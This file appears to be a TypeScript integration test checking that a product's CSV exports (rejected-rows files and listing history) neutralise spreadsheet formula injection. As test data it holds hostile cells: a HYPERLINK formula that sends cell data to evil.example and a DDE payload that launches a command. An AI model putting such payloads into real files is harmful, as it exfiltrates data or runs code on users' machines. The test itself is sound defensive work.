import { parse } from 'csv-parse/sync';
import { AdminListingsResponseSchema, CsvImportSchema, FILE_NAME_HEADER, UPLOAD_CONTENT_TYPE, type CsvImport } from '@afterwards/contracts';
import { expectEventually } from '@afterwards/persistence/testing';
import { newStaffSession, useProduct, type HttpSession, type RunningProduct } from '@afterwards/testing';

const ADMIN = { email: 'cleo.csv@example.test', name: 'Cleo Csv', password: 'quiet-harbour-71' };
const HEADER = ['name', 'category', 'location', 'address', 'phone', 'email', 'website', 'description', 'pricing', 'service_radius', 'status'];
/** What a spreadsheet program would run as a formula (OWASP's list: = + - @ tab and carriage return first). */
const DANGEROUS = /^[=+\-@\t\r]/;
const FORMULA = `=HYPERLINK("http://evil.example/?x="&A1,"Click")`;
const cell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const line = (cells: readonly string[]) => cells.map(cell).join(',');

/** Rejected for its e-mail address, every other cell a formula or starting like one. */
const REJECTED = [FORMULA, 'Funeral Directors', 'Leeds', '@SUM(1+1)', '+44 113 496 0000', 'not-an-email', '-2+3', '\tcmd', '\r=1+1', '-1', 'Active'];
/** Imported: its name starts like a formula. */
const ACCEPTED = ['=Hope & Sons', 'Funeral Directors', 'York', '1 High Street, York', '+44 1904 000000', 'office@hope.example', 'www.hope.example', 'Since 1920.', 'From £1,950', '10', 'Active'];
const FORMULA_AGENT = `=cmd|' /C calc'!A0`;

/**
 * Every CSV the product writes (the rejected rows of an import, a record's history export) opens in a
 * spreadsheet without running anything: no cell starts with a formula character once parsed back.
 */
describe('CSV the product writes is safe to open in a spreadsheet (embedded profile: the import job runs in the API)', () => {
  let product: RunningProduct;
  let admin: HttpSession;

  useProduct({ profile: 'embedded', seedCount: 0 }, async (started) => {
    product = started;
    admin = await newStaffSession(product, ADMIN);
  });

  const upload = async (name: string, content: string): Promise<CsvImport> => {
    const res = await admin.fetch('/api/admin/imports/csv', {
      method: 'POST',
      headers: { 'content-type': UPLOAD_CONTENT_TYPE, [FILE_NAME_HEADER]: encodeURIComponent(name) },
      body: content,
    });
    expect(res.status).toBe(201);
    return CsvImportSchema.parse(await res.json());
  };
  const dangerousCells = (rows: string[][]) => rows.flat().filter((c) => DANGEROUS.test(c));

  it('neutralises formula cells in the rejected-rows file and the history export, and takes the rejected rows back as they were', async () => {
    const checked = await upload('formulas.csv', `${[line(HEADER), line(REJECTED), line(ACCEPTED)].join('\r\n')}\r\n`);
    expect(checked).toMatchObject({ totalRows: 2, validRows: 1, rejectedRows: 1 });

    const file = await admin.fetch(`/api/admin/imports/csv/${checked.id}/rejected-rows`);
    expect([file.status, file.headers.get('content-type')]).toEqual([200, expect.stringMatching(/^text\/csv/)]);
    const rejected = parse(await file.text(), { relax_column_count: true }) as string[][];
    expect(dangerousCells(rejected)).toEqual([]);
    // Each cell as uploaded, a single quote before those that start like a formula.
    expect(rejected[1]!.slice(0, REJECTED.length)).toEqual(REJECTED.map((v) => (DANGEROUS.test(v) ? `'${v}` : v)));

    // The rejected-rows file uploaded again reads as the original cells: the quote the writer added is taken off.
    const again = await upload('formulas-rejected-rows.csv', await (await admin.fetch(`/api/admin/imports/csv/${checked.id}/rejected-rows`)).text());
    expect(again.preview[0]!.values).toMatchObject({ name: FORMULA, address: '@SUM(1+1)', phone: '+44 113 496 0000', website: '-2+3', description: '\tcmd', pricing: '\r=1+1' });

    // The accepted row imported by a request whose user agent is a formula: the listing's history export.
    const started = await admin.fetch(`/api/admin/imports/csv/${checked.id}/start`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'user-agent': FORMULA_AGENT },
      body: JSON.stringify({ skipRejected: true }),
    });
    expect(started.status).toBe(202);
    await expectEventually(async () => {
      const now = CsvImportSchema.parse((await admin.json(`/api/admin/imports/csv/${checked.id}`)).body);
      expect([now.status, now.progress.imported]).toEqual(['completed', 1]);
    }, 60_000, 200);
    const { listings } = AdminListingsResponseSchema.parse((await admin.json('/api/admin/listings?pageSize=10')).body);
    const listing = listings.find((l) => l.name === ACCEPTED[0]);
    const exported = await admin.fetch(`/api/admin/history/streams/listing-${listing!.id}/export.csv`);
    expect(exported.status).toBe(200);
    const history = parse(await exported.text()) as string[][];
    expect(dangerousCells(history)).toEqual([]);
    const agent = history[0]!.indexOf('user_agent');
    expect(history[1]![agent]).toBe(`'${FORMULA_AGENT}`);
    expect(history[1]![history[0]!.indexOf('data')]).toContain(JSON.stringify(ACCEPTED[0]));
  }, 120_000);
});
